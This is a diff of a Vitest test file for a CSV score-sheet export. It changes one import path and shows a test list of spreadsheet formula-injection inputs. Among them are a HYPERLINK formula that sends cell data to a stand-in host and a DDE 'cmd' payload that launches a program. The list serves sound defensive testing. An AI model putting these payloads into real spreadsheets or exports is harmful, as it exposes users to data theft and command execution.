@@ -1,6 +1,6 @@
 import { describe, expect, it } from 'vitest';
 import { csvCell } from '../../src/approval/csv-cell.js';
-import { scoreSheetCsv } from '../../src/approval/export-score-sheet.js';
+import { scoreSheetCsv } from '../../src/approval/score-sheet-file.js';
 
 describe('CSV score sheet: formula injection (issue 18, item 4)', () => {
   const names = ['=HYPERLINK("http://x.example/?a="&A1,"Bấm")', "+cmd|' /C calc'!A0", '-2+3', '@SUM(A1:A9)', '\t=1+1', '\r=1+1'];
